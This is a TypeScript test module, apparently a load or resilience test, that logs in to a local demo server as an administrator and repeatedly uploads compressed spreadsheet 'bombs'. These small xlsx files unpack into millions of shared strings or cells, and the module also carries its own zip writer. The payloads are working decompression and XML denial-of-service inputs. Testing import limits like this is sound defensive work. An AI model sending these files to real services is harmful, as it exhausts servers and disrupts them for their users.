import { setTimeout } from "node:timers/promises";
import { crc32, deflateRawSync } from "node:zlib";
import { DEMO_PASSWORD } from "../../../src/demo/demo-accounts.ts";
import { clientAt } from "./client.ts";

/** As many as fit into what a sheet may unpack to; 150 KB when it is packed. */
const SHARED_STRINGS = 3_670_016;
const EVERY_MS = 5000;
const HEAD = '<?xml version="1.0" encoding="UTF-8"?>';
const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships";
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** A supplier's administrator lets small sheets be judged that unfold into millions of strings, cells or elements. */
export async function bombSheets(port: number, endMs: number): Promise<string> {
  const client = clientAt("127.68.0.1", port, 4);
  const { body } = await client.send("POST", "/login", { json: { username: "xifeng.admin", password: DEMO_PASSWORD } });
  const token = String(body["token"]);
  const bombs = [
    xlsx("<si><t>a</t></si>", SHARED_STRINGS, ""),
    xlsx("<si/>", SHARED_STRINGS * 3, ""),
    xlsx("<si><r><t>a</t></r></si>", 2_300_000, ""),
    xlsx("", 0, `<row>${"<c><v>1</v></c>".repeat(3_500_000)}</row>`),
  ].map(multipart);
  const outcomes = new Map<string, number>();
  for (let turn = 0; performance.now() < endMs; turn += 1) {
    const begun = performance.now();
    const outcome = await client
      .send("POST", "/system/user/importData?check=1", {
        token,
        body: bombs[turn % bombs.length]!,
        type: "multipart/form-data; boundary=x",
      })
      .then(
        (answer) => String(answer.body["bizCode"] ?? answer.body.code),
        () => "connection ended",
      );
    outcomes.set(outcome, (outcomes.get(outcome) ?? 0) + 1);
    await setTimeout(Math.max(0, EVERY_MS - (performance.now() - begun)));
  }
  client.end();
  return [...outcomes].map(([outcome, count]) => `${outcome} ${count}`).join(", ");
}

function multipart(file: Buffer): Buffer {
  const frame = '--x\r\nContent-Disposition: form-data; name="file"; filename="a.xlsx"\r\n\r\n';
  return Buffer.concat([Buffer.from(frame), file, Buffer.from("\r\n--x--\r\n")]);
}

/** A workbook of one sheet whose shared strings are one text over and over. */
function xlsx(item: string, count: number, rows: string): Buffer {
  const types = ["workbook", "worksheets/sheet1", "sharedStrings"].map((name, index) => {
    const kind = ["sheet.main", "worksheet", "sharedStrings"][index] ?? "";
    return `<Override PartName="/xl/${name}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.${kind}+xml"/>`;
  });
  const relation = (id: number, kind: string, target: string): string =>
    `<Relationship Id="rId${id}" Type="${OFFICE}/${kind}" Target="${target}"/>`;
  const relations = (inside: string): string => `${HEAD}<Relationships xmlns="${RELATIONS}">${inside}</Relationships>`;
  return zip([
    [
      "[Content_Types].xml",
      `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${types.join("")}</Types>`,
    ],
    ["_rels/.rels", relations(relation(1, "officeDocument", "xl/workbook.xml"))],
    [
      "xl/workbook.xml",
      `${HEAD}<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ],
    [
      "xl/_rels/workbook.xml.rels",
      relations(relation(1, "worksheet", "worksheets/sheet1.xml") + relation(2, "sharedStrings", "sharedStrings.xml")),
    ],
    ["xl/worksheets/sheet1.xml", `${HEAD}<worksheet xmlns="${MAIN}"><sheetData>${rows}</sheetData></worksheet>`],
    ["xl/sharedStrings.xml", `${HEAD}<sst xmlns="${MAIN}">${item.repeat(count)}</sst>`],
  ]);
}

const LOCAL = 0x04034b50;
const ENTRY = 0x02014b50;
const END = 0x06054b50;
const VERSION = 20;
const DEFLATED = 8;

/** A packed archive; the product's own writer packs nothing. */
function zip(files: readonly (readonly [name: string, text: string])[]): Buffer {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of files) {
    const content = Buffer.from(text);
    const packed = deflateRawSync(content, { level: 9 });
    const facts = Buffer.alloc(26);
    facts.writeUInt16LE(VERSION, 0);
    facts.writeUInt16LE(DEFLATED, 4);
    facts.writeUInt32LE(crc32(content), 10);
    facts.writeUInt32LE(packed.byteLength, 14);
    facts.writeUInt32LE(content.byteLength, 18);
    facts.writeUInt16LE(name.length, 22);
    parts.push(number(LOCAL), facts, Buffer.from(name), packed);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    const version = Buffer.alloc(2);
    version.writeUInt16LE(VERSION, 0);
    directory.push(number(ENTRY), version, facts, tail, Buffer.from(name));
    offset += 4 + facts.byteLength + name.length + packed.byteLength;
  }
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(files.length, 4);
  end.writeUInt16LE(files.length, 6);
  end.writeUInt32LE(list.byteLength, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...parts, list, number(END), end]);
}

function number(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value);
  return bytes;
}
